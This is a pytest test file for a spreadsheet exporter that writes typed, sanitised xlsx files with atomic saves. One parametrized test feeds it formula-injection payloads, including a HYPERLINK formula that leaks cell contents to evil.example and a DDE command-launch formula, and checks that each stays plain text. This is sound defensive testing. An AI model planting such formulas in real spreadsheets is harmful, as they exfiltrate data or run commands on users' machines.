"""The safe xlsx writer: typed cells, safe text, frozen filtered headers, sheet splitting, atomic save."""

from __future__ import annotations

import errno
import tempfile
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter.workbook
import xlsxwriter.worksheet

from desk.services.errors import DeskError
from desk.services.exchange import xlsx_writer
from desk.services.exchange.xlsx_writer import (
    DATE,
    DATETIME,
    INT,
    NUMBER,
    TEXT,
    Column,
    ExportFailed,
    SafeWorkbook,
    clean_text,
    column_width,
    sheet_name,
)
from desk.services.progress import Cancelled, CancelToken

COLUMNS = (
    Column("Seq.", INT, hxl="#meta+id"),
    Column("Value date", DATE, hxl="#date"),
    Column("Name", TEXT, hxl="#beneficiary+name", width=24),
    Column("Amount", NUMBER, decimals=3, hxl="#value"),
    Column("Posted at", DATETIME),
)


@pytest.fixture(autouse=True)
def _own_temp_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """XlsxWriter's row files go to a folder the tests can check is left empty."""
    folder = tmp_path / "systemp"
    folder.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    return folder


def leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name != "systemp")


def assert_nothing_left(out: Path) -> None:
    assert not out.exists()
    assert leftovers(out.parent) == [], "the temporary workbook was not removed"
    assert leftovers(Path(tempfile.gettempdir())) == [], "XlsxWriter's row files were not removed"


def write(path: Path, rows: list[list[object]], *, hxl: bool = False, columns=COLUMNS) -> None:  # type: ignore[no-untyped-def]
    with SafeWorkbook(path) as book:
        sheet = book.add_table_sheet("Ledger", columns, hxl=hxl)
        for row in rows:
            sheet.write_row(row)


def test_cells_are_typed_and_the_header_is_bold_frozen_and_filtered(tmp_path):
    out = tmp_path / "out" / "ledger.xlsx"
    out.parent.mkdir()
    posted = datetime(2026, 11, 3, 9, 30)
    write(
        out,
        [
            [1, date(2026, 11, 2), "Ngono Marie", 1250.5, posted],
            [2, date(2026, 11, 3), "Éric Fotso", Decimal("-0.125"), None],
            [3, datetime(2026, 11, 4, 15, 0), "", 7, posted],
        ],
    )
    assert leftovers(out.parent) == ["ledger.xlsx"]
    ws = openpyxl.load_workbook(out)["Ledger"]
    assert [c.value for c in ws[1]] == ["Seq.", "Value date", "Name", "Amount", "Posted at"]
    assert all(c.font.b for c in ws[1])
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:E4"
    seq, day, name, amount, at = ws[2]
    assert (seq.value, seq.data_type) == (1, "n")
    assert day.value == datetime(2026, 11, 2) and day.is_date and day.number_format == "dd/mm/yyyy"
    assert (name.value, name.data_type) == ("Ngono Marie", "s")
    assert (amount.value, amount.data_type, amount.number_format) == (1250.5, "n", "#,##0.000")
    assert at.value == posted and at.is_date and at.number_format == "dd/mm/yyyy hh:mm"
    assert ws["D3"].value == -0.125
    assert ws["E3"].value is None  # None: an empty cell
    assert ws["B4"].value == datetime(2026, 11, 4) and ws["B4"].is_date  # a datetime in a date column: its day
    assert ws["C4"].value is None  # "" too
    assert not ws["A2"].font.b


def test_widths_come_from_the_header_and_the_declared_width(tmp_path):
    assert column_width(Column("Name", TEXT, width=24)) == 24
    assert column_width(Column("A rather long header for a number", NUMBER)) > 30
    assert column_width(Column("X", DATE)) == 11
    out = tmp_path / "w.xlsx"
    write(out, [[1, None, "x", 1, None]])
    ws = openpyxl.load_workbook(out).active
    assert ws.column_dimensions["C"].width == pytest.approx(24, abs=1)


def test_the_hxl_row_is_written_only_when_asked(tmp_path):
    plain, tagged = tmp_path / "plain.xlsx", tmp_path / "hxl.xlsx"
    write(plain, [[1, date(2026, 1, 5), "a", 1, None]])
    write(tagged, [[1, date(2026, 1, 5), "a", 1, None]], hxl=True)
    ws = openpyxl.load_workbook(plain).active
    assert not any(str(c.value).startswith("#") for row in ws.iter_rows() for c in row if c.value)
    assert ws["A2"].value == 1
    ws = openpyxl.load_workbook(tagged).active
    assert [c.value for c in ws[2]] == ["#meta+id", "#date", "#beneficiary+name", "#value", None]
    assert ws["A3"].value == 1
    assert ws.freeze_panes == "A3"  # frozen under the hashtags
    assert ws.auto_filter.ref == "A2:E3"  # filter on the hashtag row: sorting never moves it


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        "=1+1",
        "+1",
        "-2",
        "@SUM(A1)",
        "#N/A",
        "#DIV/0!",
        "=cmd|' /C calc'!A0",
        "TRUE",
        "0012345",
        "1e5",
        "12/03/1998",
    ],
)
def test_what_a_person_typed_stays_literal_text(tmp_path, typed):
    out = tmp_path / "t.xlsx"
    write(out, [[1, None, typed, None, None]], columns=COLUMNS)
    cell = openpyxl.load_workbook(out).active["C2"]
    assert cell.data_type == "s"
    assert cell.value == typed


def test_text_in_typed_columns_stays_text_too(tmp_path):
    out = tmp_path / "t.xlsx"
    write(out, [["=1+1", "#N/A", None, "+5", "@A1"]])
    ws = openpyxl.load_workbook(out).active
    assert [(c.value, c.data_type) for c in ws[2] if c.value is not None] == [
        ("=1+1", "s"),
        ("#N/A", "s"),
        ("+5", "s"),
        ("@A1", "s"),
    ]


def test_control_characters_are_removed_and_long_texts_cut(tmp_path):
    out = tmp_path / "t.xlsx"
    write(
        out,
        [
            [1, None, "a\x00b\x07c\x1bd\x7fe\x85f", None, None],
            [2, None, "line 1\r\nline 2\rline 3\tend", None, None],
            [3, None, "x" * 40_000, None, None],
            [4, None, "\U0001f600" * 20_000, None, None],  # each emoji counts twice for Excel
        ],
    )
    ws = openpyxl.load_workbook(out).active
    assert ws["C2"].value == "abcdef"
    assert ws["C3"].value == "line 1\nline 2\nline 3\tend"
    assert ws["C4"].value == "x" * 32_767
    assert ws["C5"].value == "\U0001f600" * 16_383
    assert clean_text("ok\ud800") == "ok"  # a lone surrogate could not even be encoded


def test_long_integers_keep_their_digits_and_odd_values_do_not_break_the_file(tmp_path):
    out = tmp_path / "t.xlsx"
    write(
        out,
        [
            [123456789012345678, date(1899, 12, 31), None, float("nan"), datetime(2026, 5, 1, 8, 0, tzinfo=UTC)],
            [True, None, 42, float("inf"), None],
        ],
    )
    ws = openpyxl.load_workbook(out).active
    assert (ws["A2"].value, ws["A2"].data_type) == ("123456789012345678", "s")
    assert ws["B2"].value == "31/12/1899"  # before Excel's calendar: as text
    assert ws["D2"].value is None and ws["D3"].value is None
    assert ws["E2"].value == datetime(2026, 5, 1, 8, 0, tzinfo=UTC).astimezone().replace(tzinfo=None)
    assert ws["A3"].value == 1
    assert (ws["C3"].value, ws["C3"].data_type) == ("42", "s")


def test_a_table_too_long_for_one_sheet_continues_under_the_same_header(tmp_path, monkeypatch):
    monkeypatch.setattr(xlsx_writer, "MAX_ROWS", 10)
    out = tmp_path / "split.xlsx"
    with SafeWorkbook(out) as book:
        sheet = book.add_table_sheet("Ledger", COLUMNS, hxl=True)
        for i in range(1, 21):
            sheet.write_row([i, date(2026, 1, 1), f"n{i}", i, None])
        sheet.write_blank_row()
        sheet.write_total_row(["Total", None, None, 210, None])
    assert sheet.names == ["Ledger", "Ledger (2)", "Ledger (3)"]
    assert sheet.rows == book.rows == 20
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == ["Ledger", "Ledger (2)", "Ledger (3)"]
    seqs = []
    for ws in wb:
        assert ws.max_row <= 10
        assert ws["A1"].value == "Seq." and ws["A1"].font.b
        assert ws["A2"].value == "#meta+id"
        assert ws.freeze_panes == "A3"
        seqs += [r[0].value for r in ws.iter_rows(min_row=3) if isinstance(r[0].value, int)]
    assert seqs == list(range(1, 21))
    last = wb["Ledger (3)"]
    assert last.auto_filter.ref == "A2:E6"  # rows 17-20: the total line is not in the filter
    assert last["A8"].value == "Total" and last["A8"].font.b and last["D8"].value == 210
    assert wb["Ledger"].auto_filter.ref == "A2:E10"


def test_sheet_names_are_made_valid_and_unique():
    assert sheet_name("Ledger: 2026/11 [EU]*?") == "Ledger 2026-11 EU"
    assert sheet_name("'quoted'") == "quoted"
    assert sheet_name("") == "Sheet"
    long = "Disbursements per donor and programme"
    assert sheet_name(long) == long[:31]
    assert sheet_name(long, number=2) == long[:27] + " (2)"
    assert len(sheet_name(long, number=12)) == 31
    assert sheet_name("ledger", ["Ledger"]) == "ledger (2)"
    assert sheet_name("Ledger", ["Ledger", "Ledger (2)"], number=2) == "Ledger (3)"
    assert sheet_name("History") == "History (2)"  # Excel keeps that name for itself


def test_metadata_sheet(tmp_path):
    out = tmp_path / "m.xlsx"
    when = datetime(2026, 11, 29, 10, 15)
    with SafeWorkbook(out) as book:
        book.add_table_sheet("Data", COLUMNS).write_row([1, None, "x", None, None])
        name = book.add_metadata_sheet(
            "About",
            [("Desk", "Cameroon"), ("Period", "2026-11"), ("Filters", "=donor EU"), ("Rows", 1), ("When", when)],
        )
    assert name == "About"
    ws = openpyxl.load_workbook(out)["About"]
    assert [(r[0].value, r[1].value) for r in ws.iter_rows()] == [
        ("Desk", "Cameroon"),
        ("Period", "2026-11"),
        ("Filters", "=donor EU"),
        ("Rows", 1),
        ("When", when),
    ]
    assert ws["A1"].font.b
    assert ws["B3"].data_type == "s" and ws["B4"].data_type == "n" and ws["B5"].is_date


def test_an_error_while_streaming_leaves_nothing(tmp_path):
    out = tmp_path / "ledger.xlsx"

    def rows():  # type: ignore[no-untyped-def]
        for i in range(3000):
            if i == 2500:
                raise RuntimeError("the database went away")
            yield [i, None, "x", i, None]

    with pytest.raises(RuntimeError, match="went away"), SafeWorkbook(out) as book:
        sheet = book.add_table_sheet("Ledger", COLUMNS)
        for row in rows():
            sheet.write_row(row)
    assert_nothing_left(out)


def test_a_failed_export_keeps_the_previous_file(tmp_path):
    out = tmp_path / "ledger.xlsx"
    out.write_bytes(b"last month's export")
    with pytest.raises(ValueError), SafeWorkbook(out) as book:
        book.add_table_sheet("Ledger", COLUMNS).write_row([1, None, "x", None, None])
        raise ValueError("boom")
    assert out.read_bytes() == b"last month's export"
    assert leftovers(tmp_path) == ["ledger.xlsx"]


def test_cancel_from_the_progress_callback_leaves_nothing(tmp_path, monkeypatch):
    monkeypatch.setattr(xlsx_writer, "PROGRESS_EVERY", 10)
    out = tmp_path / "ledger.xlsx"
    token = CancelToken()
    seen: list[tuple[int, int, str]] = []

    def progress(done: int, total: int, message: str) -> None:
        seen.append((done, total, message))
        if done >= 50:
            token.cancel()

    with pytest.raises(Cancelled), SafeWorkbook(out, progress=progress, cancel=token, total=100) as book:
        sheet = book.add_table_sheet("Ledger", COLUMNS)
        for i in range(100):
            sheet.write_row([i, None, "x", i, None])
    assert isinstance(Cancelled(), DeskError)
    assert [done for done, _, _ in seen] == [0, 10, 20, 30, 40, 50]
    assert all(total == 100 and "ledger.xlsx" in message for _, total, message in seen)
    assert_nothing_left(out)


def test_cancel_after_the_last_row_still_leaves_nothing(tmp_path):
    out = tmp_path / "ledger.xlsx"
    token = CancelToken()
    with pytest.raises(Cancelled), SafeWorkbook(out, cancel=token) as book:
        book.add_table_sheet("Ledger", COLUMNS).write_row([1, None, "x", None, None])
        token.cancel()
    assert_nothing_left(out)


def test_progress_reaches_the_row_count(tmp_path, monkeypatch):
    monkeypatch.setattr(xlsx_writer, "PROGRESS_EVERY", 4)
    seen: list[tuple[int, int]] = []
    out = tmp_path / "ledger.xlsx"
    with SafeWorkbook(out, progress=lambda d, t, _m: seen.append((d, t))) as book:
        sheet = book.add_table_sheet("Ledger", COLUMNS)
        for i in range(10):
            sheet.write_row([i, None, None, None, None])
    assert seen == [(0, 0), (4, 0), (8, 0), (10, 0)]  # total unknown: 0
    assert out.exists()


def test_a_full_disk_when_saving_becomes_a_desk_error(tmp_path, monkeypatch):
    def full(self):  # type: ignore[no-untyped-def]
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(xlsxwriter.workbook.Workbook, "_store_workbook", full)  # the real close() wraps it
    out = tmp_path / "ledger.xlsx"
    with pytest.raises(ExportFailed) as caught:
        write(out, [[1, None, "x", None, None]])
    assert isinstance(caught.value, DeskError)
    assert "disk is full" in caught.value.message
    assert out.name in caught.value.message and str(out.parent) not in caught.value.message  # the name only
    assert caught.value.path == out
    assert_nothing_left(out)


def test_a_full_disk_while_streaming_becomes_a_desk_error(tmp_path, monkeypatch):
    original = xlsxwriter.worksheet.Worksheet._write_single_row

    def flaky(self, row=None):  # type: ignore[no-untyped-def]
        if row is not None and row > 1500:
            raise OSError(errno.ENOSPC, "No space left on device")
        return original(self, row)

    monkeypatch.setattr(xlsxwriter.worksheet.Worksheet, "_write_single_row", flaky)
    out = tmp_path / "ledger.xlsx"
    with pytest.raises(ExportFailed, match="disk is full"):
        write(out, [[i, None, "x", None, None] for i in range(3000)])
    assert_nothing_left(out)


def test_a_refused_rename_becomes_a_desk_error_that_says_what_to_do(tmp_path, monkeypatch):
    def refused(src, dst):  # type: ignore[no-untyped-def]
        raise PermissionError(errno.EACCES, "Permission denied", str(dst))

    monkeypatch.setattr(xlsx_writer.os, "replace", refused)
    out = tmp_path / "ledger.xlsx"
    with pytest.raises(ExportFailed) as caught:
        write(out, [[1, None, "x", None, None]])
    assert "open in another program" in caught.value.message and out.name in caught.value.message
    assert_nothing_left(out)


def test_a_missing_folder_becomes_a_desk_error(tmp_path):
    out = tmp_path / "gone" / "ledger.xlsx"
    with pytest.raises(ExportFailed, match="does not exist"):
        write(out, [])
    assert not out.parent.exists()
    assert leftovers(Path(tempfile.gettempdir())) == []
